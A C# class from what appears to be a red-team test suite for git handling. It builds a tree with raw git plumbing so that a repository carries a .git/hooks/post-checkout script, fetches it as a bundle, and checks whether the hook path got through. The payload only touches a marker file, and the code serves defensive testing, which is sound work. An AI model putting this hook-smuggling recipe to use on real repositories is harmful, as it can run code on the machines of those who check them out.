namespace Assay.RedTeam.Attacks.Git;

/// <summary>A folder named like git's own, made of raw objects since git itself would not add it, holds a hook that runs.</summary>
internal sealed class HooksInTheTree : PlantedBranch
{
    public override string Tries => "Builds a tree by hand that holds .git/hooks/post-checkout.";

    protected override string Craft => $$"""
        blob=$(printf '#!/bin/sh\ntouch ran-the-hook\n' | git hash-object -w --stdin)
        hooks=$(printf '100755 blob %s\tpost-checkout\n' $blob | git mktree)
        dotgit=$({{RawTree}} 40000 hooks $hooks | git hash-object -w -t tree --literally --stdin)
        root=$({{RawTree}} 40000 .git $dotgit | git hash-object -w -t tree --literally --stdin)
        git reset --quiet --soft $(git commit-tree $root -p HEAD -m hooks)
        """;

    protected override string CarelessIntake => "git fetch --quiet $BUNDLE HEAD";

    protected override string Harm => "git ls-tree -r --name-only FETCH_HEAD | grep --quiet '^.git/hooks/post-checkout$'";
}
